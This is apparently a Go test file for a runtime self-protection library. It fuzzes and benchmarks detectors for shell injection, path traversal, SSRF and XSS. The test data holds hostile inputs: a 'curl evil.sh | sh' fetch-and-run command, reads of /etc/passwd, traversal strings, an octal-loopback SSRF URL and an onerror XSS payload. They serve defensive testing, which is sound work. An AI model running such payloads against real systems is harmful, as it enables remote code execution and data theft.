package rasp

import (
	"strings"
	"testing"
)

func FuzzShellInjection(f *testing.F) {
	for _, s := range [][2]string{{"ls -la x; id", "x; id"}, {`ls 'a'\''b'`, `a'b`}, {`echo "$(id)"`, "$(id)"}, {"a b -c", "b -c"}, {"x`y", "x`y"}, {"sh -c 'ls x;id'", "x;id"}, {`bash -lc "eval 'a|b'"`, "a|b"}} {
		f.Add(s[0], s[1])
	}
	f.Fuzz(func(t *testing.T, command, input string) {
		f, ok := DetectShell(command, input)
		if ok && (len(input) < 2 || f.Kind != "shell" || f.Reason == "" || !strings.HasPrefix(command[f.Offset:], input)) {
			t.Fatalf("bad finding %+v for %q in %q", f, input, command)
		}
		// Quoting the input with single quotes, as a careful caller
		// does, never leaves an attack.
		if strings.ContainsAny(input, "'") || len(input) < 2 {
			return
		}
		quoted := "ls -la '" + input + "'"
		if strings.Count(quoted, input) != 1 {
			return // the input also matches the template's own text
		}
		if f, ok := DetectShell(quoted, input); ok {
			t.Fatalf("single-quoted input flagged: %q in %q: %s", input, quoted, f.Reason)
		}
	})
}

// A realistic ~60-byte command line.
const benchCommand = `convert /var/app/uploads/photo_2024.png -resize 50% out.png`

func BenchmarkShellInjection(b *testing.B) {
	cases := []struct{ name, input string }{
		{"absent", "; cat /etc/passwd"},
		{"present plain", "photo_2024.png"},
		{"present with syntax", "/var/app/uploads/photo_2024.png -resize"},
	}
	b.Run("present quoted", func(b *testing.B) {
		cmd := `convert '/var/app/uploads/my photo.png' -resize 50% out.png`
		b.ReportAllocs()
		for b.Loop() {
			ShellInjection(cmd, "my photo.png")
		}
	})
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				ShellInjection(benchCommand, c.input)
			}
		})
	}
	b.Run("attack", func(b *testing.B) {
		cmd := `convert /var/app/uploads/x.png; curl evil.sh | sh -resize 50%`
		b.ReportAllocs()
		for b.Loop() {
			ShellInjection(cmd, "x.png; curl evil.sh | sh")
		}
	})
}

func BenchmarkPathTraversal(b *testing.B) {
	path := "/var/www/app/uploads/users/1234/avatars/profile-picture.png"
	cases := []struct{ name, path, input string }{
		{"absent", path, "../../etc/passwd"},
		{"present plain", path, "profile-picture.png"},
		{"present nested", path, "1234/avatars/profile-picture.png"},
		{"attack", "/var/www/app/uploads/users/../../../../etc/passwd", "../../../../etc/passwd"},
		{"encoded attack", "/var/www/app/uploads/users/../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd"},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				PathTraversal(c.path, c.input)
			}
		})
	}
}

func BenchmarkSSRF(b *testing.B) {
	cases := []struct{ name, url, input string }{
		{"absent", "https://api.example.com/v1/images?id=42", "http://127.0.0.1"},
		{"in query", "https://api.example.com/fetch?u=cat.png", "cat.png"},
		{"public host", "https://images.example.org/cat.png", "https://images.example.org/cat.png"},
		{"attack", "http://0177.0.0.1/admin", "http://0177.0.0.1/admin"},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				SSRF(c.url, c.input)
			}
		})
	}
}

func BenchmarkTemplateXSS(b *testing.B) {
	page := `<!doctype html><html><head><title>Profile</title></head><body><h1>Hello bob</h1><p class="bio">I like Go &amp; coffee.</p><a href="/u/bob">me</a></body></html>`
	cases := []struct{ name, html, input string }{
		{"absent", page, "<script>alert(1)</script>"},
		{"present without syntax", page, "bob"},
		{"attack", strings.Replace(page, "bob", "<img src=x onerror=alert(1)>", 1), "<img src=x onerror=alert(1)>"},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				TemplateXSS(c.html, c.input)
			}
		})
	}
}
